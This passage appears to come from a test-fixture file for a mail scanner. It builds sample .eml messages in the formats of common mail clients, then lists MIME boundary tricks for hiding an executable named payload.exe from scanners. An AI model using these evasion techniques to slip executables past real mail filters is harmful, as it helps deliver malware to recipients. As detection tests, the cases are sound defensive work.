mime: ok
verdict: accept"""


@case("client-apple-mail-inline-image.eml")
def _():
    b1 = "Apple-Mail=_0A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D"
    b2 = "Apple-Mail=_5E6F7A8B-9C0D-4E1F-A2B3-C4D5E6F7A8B9"
    jpg = jpeg_tiny()
    msg = ("From: Ivy Chen <ivy@partner.test>\nContent-Type: multipart/alternative;\n"
           '\tboundary="%s"\nMime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))\n'
           "Subject: Whiteboard\nMessage-Id: <F0E1D2C3-B4A5-4697-8877-665544332211@partner.test>\n"
           "Date: Thu, 14 Mar 2024 15:01:44 +0100\nTo: Bob <bob@example.com>\n\n" % b1
           + "\n--%s\nContent-Transfer-Encoding: 7bit\nContent-Type: text/plain;\n\tcharset=us-ascii\n\n"
             "Photo of the whiteboard:\n\n\n\nIvy\n" % b1
           + "--%s\nContent-Type: multipart/mixed;\n\tboundary=\"%s\"\n\n" % (b1, b2)
           + "\n--%s\nContent-Transfer-Encoding: 7bit\nContent-Type: text/html;\n\tcharset=us-ascii\n\n"
             "<html><head></head><body>Photo of the whiteboard:<br><br></body></html>\n" % b2
           + "--%s\nContent-Disposition: inline;\n\tfilename=IMG_4711.jpeg\nContent-Type: image/jpeg;\n"
             "\tx-unix-mode=0644;\n\tname=\"IMG_4711.jpeg\"\nContent-Transfer-Encoding: base64\n\n"
             % b2 + b64(jpg)
           + "\n--%s\nContent-Transfer-Encoding: 7bit\nContent-Type: text/html;\n\tcharset=us-ascii\n\n"
             "<html><head></head><body><br><br>Ivy</body></html>\n--%s--\n\n--%s--\n" % (b2, b2, b1))
    return msg, """why: Apple Mail's own shape for an inline picture: alternative > plain + mixed(html, image, html), unquoted filename
part: 0 type=multipart/alternative
part: 1 type=text/plain charset=us-ascii
part: 2 type=multipart/mixed
part: 3 type=text/html charset=us-ascii
part: 4 type=image/jpeg disp=inline name="IMG_4711.jpeg" ext=jpeg truetype=unknown (jpeg)
part: 5 type=text/html charset=us-ascii
keyword: none
mime: ok
verdict: accept"""


@case("client-gmail.eml")
def _():
    b = "000000000000b1c2d3e4f5a6b7c8d9"
    text = "Hej Bob,\n\nvi ses på mötet i morgon kl. 10.\n\nMvh\nJonas\n"
    html = ('<div dir="ltr">Hej Bob,<div><br></div><div>vi ses på mötet i morgon kl. 10.</div>'
            '<div><br></div><div>Mvh</div><div>Jonas</div></div>\n')
    msg = ("MIME-Version: 1.0\nDate: Thu, 14 Mar 2024 13:07:21 +0100\n"
           "Message-ID: <CAF3x9qK8v2m+Jt5Yp0bX4nR1sLw7dZc6uHq3eT9aGk2oN5vB8w@mail.gmail.com>\n"
           "Subject: =?UTF-8?Q?M=C3=B6tet?=\nFrom: Jonas Lind <jonas.lind@gmail.test>\n"
           "To: Bob <bob@example.com>\nContent-Type: multipart/alternative; boundary=\"%s\"\n\n" % b
           + "--%s\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: "
             "quoted-printable\n\n" % b + qp(text)
           + "\n--%s\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: "
             "quoted-printable\n\n" % b + qp(html) + "\n--%s--\n" % b)
    return msg, """why: Gmail web: alternative, QP UTF-8 plain and html, RFC 2047 Subject, MIME-Version first
part: 0 type=multipart/alternative
part: 1 type=text/plain charset=utf-8
part: 2 type=text/html charset=utf-8
keyword: none
mime: ok
verdict: accept"""


@case("client-gmail-attach.eml")
def _():
    b1, b2 = "000000000000e5f6a7b8c9d0e1f2a3", "000000000000e4f5a6b7c8d9e0f1a2"
    jpg = jpeg_tiny()
    msg = ("MIME-Version: 1.0\nDate: Thu, 14 Mar 2024 13:20:40 +0100\n"
           "Message-ID: <CAF3x9qLp0Q7r2W+zX8cV5bN1mK4jH6gF3dS9aP2oI7uY4tR0eW@mail.gmail.com>\n"
           "Subject: Photo\nFrom: Jonas Lind <jonas.lind@gmail.test>\nTo: Bob <bob@example.com>\n"
           "Content-Type: multipart/mixed; boundary=\"%s\"\n\n" % b1
           + "--%s\nContent-Type: multipart/alternative; boundary=\"%s\"\n\n" % (b1, b2)
           + "--%s\nContent-Type: text/plain; charset=\"UTF-8\"\n\nHere it is.\n\n" % b2
           + "--%s\nContent-Type: text/html; charset=\"UTF-8\"\n\n<div dir=\"ltr\">Here it is.</div>\n\n"
             % b2 + "--%s--\n--%s\n" % (b2, b1)
           + "Content-Type: image/jpeg; name=\"20240314_131522.jpg\"\n"
             "Content-Disposition: attachment; filename=\"20240314_131522.jpg\"\n"
             "Content-Transfer-Encoding: base64\nContent-ID: <f_ltq8x2p10>\nX-Attachment-Id: f_ltq8x2p10\n\n"
           + b64(jpg) + "--%s--\n" % b1)
    return msg, """why: Gmail with an attachment: no CTE on the text parts (7bit default), X-Attachment-Id, closing delimiter right after base64
part: 0 type=multipart/mixed
part: 1 type=multipart/alternative
part: 2 type=text/plain charset=utf-8
part: 3 type=text/html charset=utf-8
part: 4 type=image/jpeg disp=attachment name="20240314_131522.jpg" ext=jpg truetype=unknown (jpeg)
keyword: none
mime: ok
verdict: accept"""


@case("client-iphone.eml")
def _():
    b = "Apple-Mail-7D8E9F0A-1B2C-3D4E-5F6A-7B8C9D0E1F2A"
    jpg = jpeg_tiny()
    msg = ("Content-Type: multipart/mixed; boundary=%s\nContent-Transfer-Encoding: 7bit\n"
           "From: Kim <kim@mobile.test>\nMime-Version: 1.0 (1.0)\nDate: Thu, 14 Mar 2024 17:45:09 +0100\n"
           "Subject: Parking\nMessage-Id: <9A8B7C6D-5E4F-4A3B-2C1D-0E9F8A7B6C5D@mobile.test>\n"
           "To: Bob <bob@example.com>\nX-Mailer: iPhone Mail (21D61)\n\n" % b
           + "\n--%s\nContent-Type: text/plain;\n\tcharset=utf-8\nContent-Transfer-Encoding: "
             "quoted-printable\n\n" % b
           + qp("Here\u2019s where I parked.\n\nSent from my iPhone")
           + "\n--%s\nContent-Type: image/jpeg;\n\tname=IMG_0042.jpeg;\n\tx-apple-part-url="
             "6B1C2D3E-4F5A-4B6C-8D7E-9F0A1B2C3D4E\nContent-Disposition: inline;\n"
             "\tfilename=IMG_0042.jpeg\nContent-Transfer-Encoding: base64\n\n" % b + b64(jpg)
           + "--%s--\n" % b)
    return msg, """why: iPhone Mail: unquoted boundary with '-' runs, Mime-Version comment, QP curly apostrophe, inline photo
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=utf-8
part: 2 type=image/jpeg disp=inline name="IMG_0042.jpeg" ext=jpeg truetype=unknown (jpeg)
keyword: none
mime: ok
verdict: accept"""


@case("client-newsletter-pixel.eml")
def _():
    b = "_----------=_MCPart_1420871385"
    html = ('<!doctype html>\n<html><head><meta charset="UTF-8"><title>Spring offers</title>'
            '<style type="text/css">body{margin:0;padding:0}.hide{display:none}</style></head>\n'
            '<body><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
            '<h1 style="font-family:Arial">Spring offers &ndash; up to 30&nbsp;% off</h1>'
            '<p>Dear customer, our garden furniture is back in stock.</p>'
            '<a href="https://news.shop.test/track/click?u=4f1e&amp;id=9a2b&amp;e=c3d4">Shop now</a>'
            '</td></tr></table>\n<img src="https://news.shop.test/track/open.php?u=4f1e&amp;id=9a2b'
            '&amp;e=c3d4" height="1" width="1" alt="" style="display:block;border:0"></body></html>')
    msg = ("Return-Path: <bounce-mc.us21_4f1e.9a2b-bob=example.com@mail.shop.test>\n"
           "From: Garden Shop <news@shop.test>\nReply-To: Garden Shop <hello@shop.test>\n"
           "To: <bob@example.com>\nSubject: =?utf-8?Q?Spring_offers_=E2=80=93_up_to_30=25_off?=\n"
           "Date: Thu, 14 Mar 2024 08:00:12 +0000\nMessage-ID: <4f1e9a2bc3d4.a1b2c3@mail.shop.test>\n"
           "List-Unsubscribe: <https://news.shop.test/unsubscribe?u=4f1e&id=9a2b>, "
           "<mailto:unsubscribe-mc.us21_4f1e@mail.shop.test>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n"
           "X-Mailer: Mailchimp Mailer - **CIDc3d4**\nPrecedence: bulk\nMIME-Version: 1.0\n"
           "Content-Type: multipart/alternative; boundary=\"%s\"\n\nThis is a multi-part message in MIME format\n\n" % b
           + "--%s\nContent-Type: text/plain; charset=\"utf-8\"; format=\"fixed\"\n"
             "Content-Transfer-Encoding: quoted-printable\n\n" % b
           + qp("Spring offers \u2013 up to 30 % off\n\nDear customer, our garden furniture is back "
                "in stock.\nShop now: https://news.shop.test/track/click?u=4f1e&id=9a2b&e=c3d4\n")
           + "\n--%s\nContent-Type: text/html; charset=\"utf-8\"\nContent-Transfer-Encoding: "
             "quoted-printable\n\n" % b + qp(html) + "\n\n--%s--\n" % b)
    return msg, """why: newsletter (Mailchimp shape): alternative, QP html with long lines, entities, a 1x1 remote tracking pixel
part: 0 type=multipart/alternative
part: 1 type=text/plain charset=utf-8
part: 2 type=text/html charset=utf-8
keyword: none
mime: ok
verdict: accept"""


@case("client-calendar-invite.eml")
def _():
    b1, b2 = "000000000000a0b1c2d3e4f5a6b7c8", "000000000000a0b1c2d3e4f5a6b7c9"
    ics = ("BEGIN:VCALENDAR\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\nVERSION:2.0\n"
           "CALSCALE:GREGORIAN\nMETHOD:REQUEST\nBEGIN:VEVENT\nDTSTART:20240318T090000Z\n"
           "DTEND:20240318T093000Z\nDTSTAMP:20240314T140000Z\n"
           "ORGANIZER;CN=Jonas Lind:mailto:jonas.lind@gmail.test\nUID:7kq3m1v9p2r8t0s4u6w5y7x3z1@google.com\n"
           "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=\n TRUE;CN=bob@example.com;"
           "X-NUM-GUESTS=0:mailto:bob@example.com\nCREATED:20240314T135959Z\n"
           "DESCRIPTION:Weekly sync\\, agenda in the doc.\nSEQUENCE:0\nSTATUS:CONFIRMED\n"
           "SUMMARY:Weekly sync\nTRANSP:OPAQUE\nEND:VEVENT\nEND:VCALENDAR\n")
    msg = ("MIME-Version: 1.0\nDate: Thu, 14 Mar 2024 14:00:00 +0000\n"
           "Message-ID: <0000000000009a8b7c6d5e4f3a2b1c@google.com>\n"
           "Subject: Invitation: Weekly sync @ Mon 18 Mar 2024 09:00 - 09:30 (UTC) (bob@example.com)\n"
           "From: Jonas Lind <jonas.lind@gmail.test>\nTo: bob@example.com\n"
           "Content-Type: multipart/mixed; boundary=\"%s\"\n\n" % b1
           + "--%s\nContent-Type: multipart/alternative; boundary=\"%s\"\n\n" % (b1, b2)
           + "--%s\nContent-Type: text/plain; charset=\"UTF-8\"; format=flowed; delsp=yes\n"
             "Content-Transfer-Encoding: base64\n\n" % b2
           + b64(b"You have been invited to the following event.\n\nTitle: Weekly sync\n"
                 b"When: Mon 18 Mar 2024 09:00 - 09:30 (UTC)\n")
           + "\n--%s\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: "
             "quoted-printable\n\n" % b2
           + qp('<span itemscope itemtype="http://schema.org/InformAction"><h3>Weekly sync</h3>'
                '<p>Mon 18 Mar 2024 09:00 \u2013 09:30 (UTC)</p></span>')
           + "\n--%s\nContent-Type: text/calendar; charset=\"UTF-8\"; method=REQUEST\n"
             "Content-Transfer-Encoding: 7bit\n\n" % b2 + ics
           + "\n--%s--\n\n--%s\nContent-Type: application/ics; name=\"invite.ics\"\n"
             "Content-Disposition: attachment; filename=\"invite.ics\"\n"
             "Content-Transfer-Encoding: base64\n\n" % (b2, b1) + b64(ics.replace("\n", "\r\n").encode())
           + "--%s--\n" % b1)
    return msg, """why: Google Calendar invitation: mixed > alternative(plain base64 flowed, html, text/calendar METHOD=REQUEST) + invite.ics
part: 0 type=multipart/mixed
part: 1 type=multipart/alternative
part: 2 type=text/plain charset=utf-8 format=flowed
part: 3 type=text/html charset=utf-8
part: 4 type=text/calendar charset=utf-8
part: 5 type=application/ics disp=attachment name="invite.ics" ext=ics truetype=unknown
keyword: none
mime: ok
verdict: accept"""


SMIME_SIG = """MIIDMAYJKoZIhvcNAQcCoIIDITCCAx0CAQExDTALBglghkgBZQMEAgEwCwYJKoZIhvcNAQcBoIIB
zTCCAckwggFvoAMCAQICFH/sKZPxHNGpcN6eVzgPzqfP+0MkMAoGCCqGSM49BAMCMDoxFjAUBgNV
BAMMDUNhcm9sIEV4YW1wbGUxIDAeBgkqhkiG9w0BCQEWEWNhcm9sQGV4YW1wbGUub3JnMB4XDTI2
MTIwMzE0Mjg1M1oXDTM2MTEzMDE0Mjg1M1owOjEWMBQGA1UEAwwNQ2Fyb2wgRXhhbXBsZTEgMB4G
CSqGSIb3DQEJARYRY2Fyb2xAZXhhbXBsZS5vcmcwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAAQE
nJkiCJVV7b+hDQNREtDfosFW1ARJXVl9G4Nw+jbGmk+82ePrkmnNu7bhQkyEiWwvPog4ddiQg6kV
kBT3VbNto1MwUTAdBgNVHQ4EFgQUHvnOEVeZA6nWxA3Hur0h+hm9KAIwHwYDVR0jBBgwFoAUHvnO
EVeZA6nWxA3Hur0h+hm9KAIwDwYDVR0TAQH/BAUwAwEB/zAKBggqhkjOPQQDAgNIADBFAiApfD4f
iW6xb24PbD5i8u2/GX//5KkZ/lKfbPYroCfojwIhAPk+cZ1wWT0oHbNcK3SEBA8uiFteVW2Vx3QG
rvdJJErEMYIBKTCCASUCAQEwUjA6MRYwFAYDVQQDDA1DYXJvbCBFeGFtcGxlMSAwHgYJKoZIhvcN
AQkBFhFjYXJvbEBleGFtcGxlLm9yZwIUf+wpk/Ec0alw3p5XOA/Op8/7QyQwCwYJYIZIAWUDBAIB
oGkwGAYJKoZIhvcNAQkDMQsGCSqGSIb3DQEHATAcBgkqhkiG9w0BCQUxDxcNMjYxMjAzMTQyODUz
WjAvBgkqhkiG9w0BCQQxIgQg/kIM75lBFXi7p+tcmo0xjMk6obGS7yUdEw7pmfawMXQwCgYIKoZI
zj0EAwIESDBGAiEA5HYOud5Yi7miT/DrNlzN0ayME2XB5hvDV8rlQhYmSZkCIQCufwvMa31g9iq6
D+cjNumRhGVQgEIF9g+Waq+0AHdA6A==
"""


@case("client-smime-signed.eml")
def _():
    # The signature is real (openssl cms -sign -binary, P-256 self-signed certificate for
    # carol@example.org, made once and pasted here) over the first part exactly as below, CRLF.
    b = "----2D1E0F9A8B7C6D5E4F3A2B1C0D9E8F7A"
    msg = (head("Quarterly figures (signed)", frm="Carol <carol@example.org>",
                mid="<5f4e3d2c-1b0a-4998-8776-655443322110@example.org>")
           + 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg="sha-256";'
             ' boundary="%s"\n\nThis is an S/MIME signed message\n\n--%s\n' % (b, b)
           + "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 7bit\n\nHi Bob,\n\n"
             "the quarterly figures are final; I signed this mail so you know it is mine.\n\n"
             "Regards,\nCarol\n\n--%s\n" % b
           + 'Content-Type: application/pkcs7-signature; name="smime.p7s"\nContent-Transfer-Encoding: '
             'base64\nContent-Disposition: attachment; filename="smime.p7s"\n\n' + SMIME_SIG
           + "\n--%s--\n\n" % b)
    return msg, """why: S/MIME detached signature (openssl cms, real): multipart/signed, protocol and micalg, smime.p7s
part: 0 type=multipart/signed
part: 1 type=text/plain charset=utf-8
part: 2 type=application/pkcs7-signature disp=attachment name="smime.p7s" ext=p7s truetype=unknown
keyword: none
mime: ok
verdict: accept"""


@case("client-mutt-pgp-signed-lf.eml", eol="lf")
def _():
    # LF line ends throughout: a message as mutt writes it to a Unix mbox or pipes it to
    # sendmail(1). The signature is real (gpg, ed25519) over the first part in CRLF form.
    b = "k3uZwR9yQx2VtP7s"
    sig = ("-----BEGIN PGP SIGNATURE-----\n\n"
           "iHUEABYIAB0WIQTFQ+suZ06m6Fzjh/QinGXfWqM1gAUCaxF8pQAKCRAinGXfWqM1\n"
           "gK8DAP91zRmMOA4KXRmIIA9MOBG7V51pSMDFOaiypViXuoU7QAD/RVHUWlHFgbpb\n"
           "noeFPIgXpydH8s17xkHvE5aN81upsAo=\n=Y8iG\n-----END PGP SIGNATURE-----\n")
    msg = ("Date: Thu, 14 Mar 2024 16:02:33 +0100\nFrom: Dave <dave@example.net>\n"
           "To: Bob <bob@example.com>\nSubject: 2.4.1 released\n"
           "Message-ID: <20240314150233.k3uzwr9yqx2vtp7s@host.example.net>\nMIME-Version: 1.0\n"
           'Content-Type: multipart/signed; micalg=pgp-sha256;\n\tprotocol="application/pgp-signature"; '
           'boundary="%s"\nContent-Disposition: inline\nUser-Agent: NeoMutt/20220429\n\n\n--%s\n' % (b, b)
           + "Content-Type: text/plain; charset=us-ascii\nContent-Disposition: inline\n\nHi all,\n\n"
             "the release tarball for 2.4.1 is up; checksums below are signed.\n\n-- \nDave\n\n"
           + "--%s\nContent-Type: application/pgp-signature; name=\"signature.asc\"\n"
             "Content-Description: signature\n\n" % b + sig + "\n--%s--\n" % b)
    return msg, """why: mutt PGP/MIME signature (gpg, real), LF only line ends, signature delimiter "-- " with its trailing space
part: 0 type=multipart/signed
part: 1 type=text/plain charset=us-ascii disp=inline
part: 2 type=application/pgp-signature name="signature.asc" ext=asc truetype=unknown
keyword: none
mime: ok
verdict: accept"""


@case("client-iso2022jp.eml")
def _():
    text = "山田様\n\nいつもお世話になっております。\n明日の会議の資料をお送りします。\n\n鈴木\n"
    body = text.encode("iso-2022-jp")
    msg = (head(ew("会議資料", "ISO-2022-JP"), frm=ew("鈴木", "ISO-2022-JP") + " <suzuki@partner.test>",
                to="yamada@example.com", mid="<20240314091500.1234.suzuki@partner.test>",
                extra="X-Mailer: Becky! ver. 2.81.04\n").encode()
           + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n" + body)
    return msg, """why: Japanese mail as Becky!/most JP clients send it: ISO-2022-JP 7bit escapes in body, Subject and From
part: 0 type=text/plain charset=iso-2022-jp
keyword: none
mime: ok
verdict: accept"""


@case("client-shiftjis-base64.eml")
def _():
    text = "山田様\n\n請求書を添付いたします。ご確認ください。\n\n佐藤\n"
    msg = (head(ew("請求書", "Shift_JIS"), frm="Sato <sato@partner.test>", to="yamada@example.com")
           + "Content-Type: multipart/mixed; boundary=\"--_NextPart_000_0A1B_01DA7601.2C3D4E50\"\n\n"
           + "----_NextPart_000_0A1B_01DA7601.2C3D4E50\nContent-Type: text/plain; charset=\"shift_jis\"\n"
             "Content-Transfer-Encoding: base64\n\n" + b64(text.replace("\n", "\r\n").encode("shift_jis"))
           + "\n----_NextPart_000_0A1B_01DA7601.2C3D4E50\nContent-Type: application/pdf; "
             "name=\"%s\"\nContent-Disposition: attachment; "
             "filename=\"%s\"\nContent-Transfer-Encoding: base64\n\n" % ((ew("請求書.pdf", "Shift_JIS"),) * 2)
           + b64(pdf_doc("Seikyusho")) + "\n----_NextPart_000_0A1B_01DA7601.2C3D4E50--\n")
    return msg, """why: Shift_JIS text in base64 and a PDF named in RFC 2047 Shift_JIS (what Outlook in Japan writes)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=shift_jis
part: 2 type=application/pdf disp=attachment name="請求書.pdf" ext=pdf truetype=pdf
keyword: none
mime: ok
verdict: accept"""


@case("client-windows1252-qp.eml")
def _():
    text = ("Dear Bob,\n\n\u201cThe invoice\u201d for \u20ac1.250,00 is attached \u2013 payment "
            "within 30 days, please.\n\nBest regards,\nRen\u00e9 Dupr\u00e9\n")
    msg = (head("Facture", frm="=?Windows-1252?Q?Ren=E9_Dupr=E9?= <rene@partner.test>",
                extra="X-Mailer: Microsoft Outlook 16.0\nX-MimeOLE: Produced By Microsoft MimeOLE\n")
           + 'Content-Type: text/plain;\n\tcharset="windows-1252"\nContent-Transfer-Encoding: '
             "quoted-printable\n\n" + qp(text, "windows-1252") + "\n")
    return msg, """why: windows-1252 quoted-printable with smart quotes (=93 =94), euro sign (=80) and en dash (=96)
part: 0 type=text/plain charset=windows-1252
keyword: none
mime: ok
verdict: accept"""


@case("client-base64-utf8.eml")
def _():
    text = ("Привет, Боб!\n\nΚαλημέρα! مرحبا 你好 — the translations for the brochure are done.\n\n"
            "Olga\n")
    msg = (head("=?UTF-8?B?0J/QtdGA0LXQstC+0LTRiw==?=", frm="Olga <olga@partner.test>")
           + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
           + b64(text.replace("\n", "\r\n").encode()))
    return msg, """why: single-part base64 UTF-8 text (Cyrillic, Greek, Arabic, CJK), RFC 2047 base64 Subject
part: 0 type=text/plain charset=utf-8
keyword: none
mime: ok
verdict: accept"""


@case("client-digest.eml")
def _():
    b = "==digest_b8f2c1a9=="
    msg = ("From: list-request@lists.partner.test\nTo: bob@example.com\nSubject: gardeners Digest, Vol 12, Issue 3\n"
           "Date: Thu, 14 Mar 2024 12:00:01 +0000\nMessage-ID: <mailman.3.1710417601.2211.gardeners@lists.partner.test>\n"
           "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"===============1234567890==\"\n"
           "List-Id: <gardeners.lists.partner.test>\n\n"
           "--===============1234567890==\nContent-Type: text/plain; charset=\"us-ascii\"\n"
           "Content-Description: gardeners Digest, Vol 12, Issue 3\n\nToday's Topics:\n\n"
           "   1. Tomatoes (Ann)\n   2. Re: Tomatoes (Ben)\n\n"
           "--===============1234567890==\nContent-Type: multipart/digest; boundary=\"%s\"\n\n" % b
           + "--%s\n\nFrom: Ann <ann@partner.test>\nSubject: Tomatoes\nDate: Wed, 13 Mar 2024 18:00:00 +0000\n"
             "\nWhen do you plant them out?\n\n--%s\nContent-Type: message/rfc822\n\n" % (b, b)
           + "From: Ben <ben@partner.test>\nSubject: Re: Tomatoes\nDate: Wed, 13 Mar 2024 19:30:00 +0000\n"
             "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nAfter the last frost.\n\n"
           + "--%s--\n\n--===============1234567890==--\n" % b)
    return msg, """why: Mailman digest: multipart/digest whose parts default to message/rfc822 (one with no part headers at all)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
part: 2 type=multipart/digest
part: 3 type=message/rfc822 (digest default)
part: 4 type=text/plain charset=us-ascii (the inner message of part 3)
part: 5 type=message/rfc822
part: 6 type=text/plain charset=utf-8 (the inner message of part 5)
keyword: none
mime: ok
verdict: accept"""


@case("client-forward-attached.eml")
def _():
    b1, b2 = "------------0Kq7n2Yb4Vx9Lc1Ms3Pd", "------------inner5Rt8Wz0Xa2Sd4Fg6Hj"
    inner = ("From: Erin Smith <erin.smith@partner.test>\nTo: Alice <alice@example.com>\nSubject: Contract\n"
             "Date: Wed, 13 Mar 2024 16:10:00 +0000\nMessage-ID: <contract-1@partner.test>\nMIME-Version: 1.0\n"
             "Content-Type: multipart/mixed; boundary=\"%s\"\n\n--%s\n" % (b2, b2)
             + "Content-Type: text/plain; charset=UTF-8\n\nDraft attached.\n\n--%s\n" % b2
             + 'Content-Type: application/pdf; name="contract-draft.pdf"\nContent-Disposition: attachment; '
               'filename="contract-draft.pdf"\nContent-Transfer-Encoding: base64\n\n'
             + b64(pdf_doc("Draft")) + "\n--%s--\n" % b2)
    msg = (head("Fwd: Contract", frm="Alice <alice@example.com>",
                extra="User-Agent: Mozilla Thunderbird\n")
           + 'Content-Type: multipart/mixed; boundary="%s"\n\nThis is a multi-part message in MIME format.\n'
             "--%s\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 7bit\n\n"
             "Bob, see the forwarded mail.\n\n--%s\n" % (b1, b1, b1)
           + 'Content-Type: message/rfc822; charset=UTF-8; name="Contract.eml"\nContent-Disposition: '
             'attachment; filename="Contract.eml"\n\n' + inner + "\n--%s--\n" % b1)
    return msg, """why: Thunderbird "forward as attachment": message/rfc822 holding a mixed message with a PDF
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=utf-8
part: 2 type=message/rfc822 disp=attachment name="Contract.eml" ext=eml
part: 3 type=multipart/mixed (the inner message)
part: 4 type=text/plain charset=utf-8
part: 5 type=application/pdf disp=attachment name="contract-draft.pdf" ext=pdf truetype=pdf
keyword: none
mime: ok
verdict: accept"""


@case("client-bounce-dsn.eml")
def _():
    b = "4TvXq25Pz3z9fG.1710418000/mx.example.com"
    msg = ("From: MAILER-DAEMON@mx.example.com (Mail Delivery System)\nSubject: Undelivered Mail Returned to Sender\n"
           "To: bob@example.com\nAuto-Submitted: auto-replied\nMIME-Version: 1.0\n"
           "Content-Type: multipart/report; report-type=delivery-status;\n\tboundary=\"%s\"\n"
           "Content-Transfer-Encoding: 8bit\nMessage-Id: <20240314120640.1A2B3C4D5E@mx.example.com>\n"
           "Date: Thu, 14 Mar 2024 12:06:40 +0000 (UTC)\n\nThis is a MIME-encapsulated message.\n\n" % b
           + "--%s\nContent-Description: Notification\nContent-Type: text/plain; charset=utf-8\n"
             "Content-Transfer-Encoding: 8bit\n\nThis is the mail system at host mx.example.com.\n\n"
             "I'm sorry to have to inform you that your message could not\nbe delivered to one or more "
             "recipients.\n\n<nobody@partner.test>: host mx.partner.test[198.51.100.7] said: 550 5.1.1\n"
             "    user unknown (in reply to RCPT TO command)\n\n" % b
           + "--%s\nContent-Description: Delivery report\nContent-Type: message/delivery-status\n\n"
             "Reporting-MTA: dns; mx.example.com\nArrival-Date: Thu, 14 Mar 2024 12:06:38 +0000 (UTC)\n\n"
             "Final-Recipient: rfc822; nobody@partner.test\nAction: failed\nStatus: 5.1.1\n"
             "Diagnostic-Code: smtp; 550 5.1.1 user unknown\n\n" % b
           + "--%s\nContent-Description: Undelivered Message Headers\nContent-Type: text/rfc822-headers\n"
             "Content-Transfer-Encoding: 8bit\n\nFrom: Bob <bob@example.com>\nTo: nobody@partner.test\n"
             "Subject: hello\nDate: Thu, 14 Mar 2024 12:06:30 +0000\n\n--%s--\n" % (b, b))
    return msg, """why: Postfix bounce: multipart/report with message/delivery-status and text/rfc822-headers, '/' and '.' in the boundary
part: 0 type=multipart/report
part: 1 type=text/plain charset=utf-8
part: 2 type=message/delivery-status
part: 3 type=text/rfc822-headers
keyword: none
mime: ok
verdict: accept"""



# ================================================================ MIME structure evasions
# The payload of most is a real PE image named payload.exe: whichever way the parser reads the
# structure, it must still find that part, or call the structure malformed.

EXE = pe_exe()
EXE_PART = 'part: %d type=application/octet-stream disp=attachment name="payload.exe" ext=exe truetype=exe'


@case("evasion-boundary-missing.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + "Content-Type: multipart/mixed\n\n--XyZ\nContent-Type: text/plain\n\n"
           "See attached.\n--XyZ\n" + h + "\n" + b + "--XyZ--\n")
    return msg, """why: multipart/mixed without a boundary parameter; the body has delimiter lines a lenient client might guess from
part: 0 type=multipart/mixed (no boundary: its body is not split)
keyword: none
mime: malformed (multipart without boundary)
verdict: reject (mime malformed)"""


@case("evasion-boundary-empty.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary=""\n\n--\nContent-Type: text/plain\n\n'
           "See attached.\n--\n" + h + "\n" + b + "----\n")
    return msg, """why: boundary="" (empty): the delimiter would be a bare "--" line
part: 0 type=multipart/mixed (empty boundary: its body is not split)
keyword: none
mime: malformed (empty boundary)
verdict: reject (mime malformed)"""


@case("evasion-boundary-duplicated.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="AAA"; boundary="BBB"\n\n'
           "--AAA\nContent-Type: text/plain\n\nNothing to see here.\n"
           "--BBB\n" + h + "\n" + b + "--BBB--\n--AAA--\n")
    return msg, """why: two boundary parameters; one reading sees a text part, the other an exe: scanner and client may disagree
part: 0 type=multipart/mixed (boundary="AAA", the first; the duplicate makes it ambiguous)
part: 1 type=text/plain charset=us-ascii (holds the --BBB lines as text)
keyword: none
mime: malformed (duplicate boundary parameter)
verdict: reject (mime malformed)"""


@case("evasion-boundary-2231.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + "Content-Type: multipart/mixed; boundary*0=\"=_split\"; boundary*1=\"_bound\"\n\n"
           "--=_split_bound\nContent-Type: text/plain\n\nSee attached.\n--=_split_bound\n" + h + "\n" + b
           + "--=_split_bound--\n")
    return msg, """why: boundary as RFC 2231 continuations (legal for any parameter): a scanner that reads only boundary= sees one part
part: 0 type=multipart/mixed boundary="=_split_bound"
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-boundary-2231-charset.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + "Content-Type: multipart/mixed; boundary*=us-ascii'en'%3D_pct%20enc\n\n"
           "--=_pct enc\nContent-Type: text/plain\n\nSee attached.\n--=_pct enc\n" + h + "\n" + b
           + "--=_pct enc--\n")
    return msg, """why: boundary*=charset'lang'%XX: percent-encoded '=' and space decode to the real delimiter "=_pct enc"
part: 0 type=multipart/mixed boundary="=_pct enc"
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-closing-boundary-missing.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = head("Invoice") + 'Content-Type: multipart/mixed; boundary="cut"\n\n--cut\nContent-Type: text/plain\n\n' \
        "See attached.\n--cut\n" + h + "\n" + b
    return msg, """why: the closing delimiter --cut-- never comes: the last part runs to the end of the message and is still scanned
part: 0 type=multipart/mixed unclosed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
